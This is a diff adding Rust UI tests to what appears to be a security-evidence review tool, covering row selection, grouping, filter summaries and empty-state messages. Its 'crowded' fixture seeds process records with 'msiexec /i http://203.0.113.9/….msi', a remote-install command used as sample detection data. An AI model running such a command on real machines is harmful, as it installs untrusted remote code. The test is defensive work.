@@ -332,3 +332,160 @@ fn rows_of_more_years_say_the_year_and_rows_without_time_that() {
     assert!(screen.contains("2021-01-01 00:00:00") && screen.contains("no time"));
     assert_eq!(at("2021-01-01T00:00:00Z").year(), 2021);
 }
+
+/// A group of many rows, of which the selected one is the last.
+fn crowded() -> common::Evidence {
+    let mut seeds = evidence::seeds();
+    for place in 0..30 {
+        seeds.push(evidence::Seed {
+            account: "CORP\\crowd",
+            dest: "aaa-01",
+            process: format!("msiexec /i http://203.0.113.9/{place}.msi"),
+            time: "2022-06-01T00:00:00Z",
+            ..evidence::Seed::default()
+        });
+    }
+    common::Evidence {
+        findings: Arc::new(evidence::findings(&seeds)),
+        ..evidence::of(&seeds)
+    }
+}
+
+#[test]
+fn the_row_that_was_asked_for_is_selected_whatever_comes_first() {
+    let all = crowded();
+    let settings = Settings {
+        rule: Arc::new(common::rule::view()),
+        select: Some("dest:web-02".into()),
+        ..Settings::default()
+    };
+    let mut desk = Desk::with(settings, all, 100, 24);
+    let seeds = evidence::seeds();
+    // The later of two rows comes first.
+    let first = evidence::findings(&seeds[1..2]);
+    desk.message(Message::Report(Report::Findings(Arc::new(first))));
+    assert!(selected(&desk).contains("06-14 02:13:40"));
+    let reports = desk.evidence.load();
+    desk.reports(reports);
+    assert!(
+        selected(&desk).contains("06-14 02:11:07"),
+        "{}",
+        desk.screen()
+    );
+    assert!(desk.screen().contains("▾ web-02.corp.example ▸ iis-app"));
+    // A person's choice holds.
+    desk.keys("j");
+    let rows = Report::Findings(Arc::clone(&desk.evidence.findings));
+    desk.message(Message::Report(rows));
+    assert!(selected(&desk).contains("06-14 02:13:40"));
+}
+
+#[test]
+fn the_group_of_the_selected_row_comes_into_sight() {
+    let mut desk = Desk::loaded(crowded(), 100, 24);
+    desk.keys("/29.msi<enter>");
+    assert!(desk.screen().contains("▾ aaa-01 ▸ crowd"));
+    desk.keys("<esc>s");
+    assert!(desk.screen().contains("newest first"));
+    desk.keys("/dest:web-02<enter>G<esc>");
+    assert!(
+        selected(&desk).contains("06-14 02:11:07"),
+        "{}",
+        desk.screen()
+    );
+    assert!(desk.screen().contains("▾ web-02.corp.example ▸ iis-app"));
+}
+
+#[test]
+fn without_rows_the_footer_says_what_can_be_done() {
+    let mut desk = Desk::loaded(evidence::sample(), 100, 24);
+    desk.keys("/zzz<enter>");
+    let screen = desk.screen();
+    let footer = screen.lines().last().unwrap();
+    assert!(footer.contains("esc drop the last term  / filter  4 rule  5 evidence"));
+    assert!(!footer.contains("details") && !footer.contains("only user"));
+    let desk = Desk::loaded(evidence::none(), 100, 24);
+    let screen = desk.screen();
+    assert!(
+        screen
+            .lines()
+            .last()
+            .unwrap()
+            .starts_with(" 4 rule  5 evidence ")
+    );
+}
+
+#[test]
+fn a_filter_says_when_what_it_leaves_was() {
+    let mut desk = Desk::loaded(evidence::sample(), 100, 24);
+    desk.keys("/web-02<enter>");
+    assert!(
+        desk.screen()
+            .contains("2 of 6 rows · 2 events · 06-14 02:11 … 02:13")
+    );
+}
+
+#[test]
+fn nothing_tested_is_said_too() {
+    for (files, others, answer) in [
+        (0, 0, "there was no file to read."),
+        (0, 1, "the one file is no evidence. 5 says what it is."),
+        (0, 2, "of 2 files none is evidence. 5 says what they are."),
+        (
+            1,
+            1,
+            "there is no process creation among 0 records of 1 file",
+        ),
+    ] {
+        let mut evidence = evidence::none();
+        let mut loaded = gimlet::worker::Loaded::default();
+        loaded.ledger.complete = true;
+        loaded.ledger.totals.files = files;
+        loaded.ledger.totals.files_not_evidence = others;
+        evidence.loaded = Arc::new(loaded);
+        let desk = Desk::loaded(evidence, 130, 32);
+        let screen = desk.screen();
+        assert!(
+            screen.contains("No rows, and nothing was tested: "),
+            "{screen}"
+        );
+        assert!(screen.contains(answer), "{screen}");
+        assert!(screen.contains(&format!("{files} of {files} files")));
+    }
+}
+
+#[test]
+fn rows_that_a_later_stage_dropped_are_no_clause_unmet() {
+    let mut evidence = evidence::none();
+    let mut loaded = (*evidence.loaded).clone();
+    loaded.stages = vec![("tstats".into(), 8214, 6), ("where count > 5".into(), 6, 0)];
+    evidence.loaded = Arc::new(loaded);
+    let desk = Desk::loaded(evidence, 200, 32);
+    let screen = desk.screen();
+    assert!(screen.contains("6 rows came out of the first stage") && !screen.contains("none with"));
+}
+
+#[test]
+fn a_long_user_leaves_the_figures() {
+    let seed = evidence::Seed {
+        account: "S-1-5-21-3804571926-1120447813-2917733056-1142",
+        ..evidence::Seed::default()
+    };
+    let mut seeds = vec![
+        seed.clone(),
+        evidence::Seed {
+            account: "CORP\\a",
+            ..seed
+        },
+    ];
+    seeds[1].time = "2022-06-15T02:11:07Z";
+    for width in [60, 80, 120] {
+        let desk = Desk::loaded(evidence::of(&seeds), width, 24);
+        let screen = desk.screen();
+        let line = screen
+            .lines()
+            .find(|line| line.contains("S-1-5-21"))
+            .unwrap();
+        assert!(line.contains("  1 row · 1 event"), "{screen}");
+    }
+}
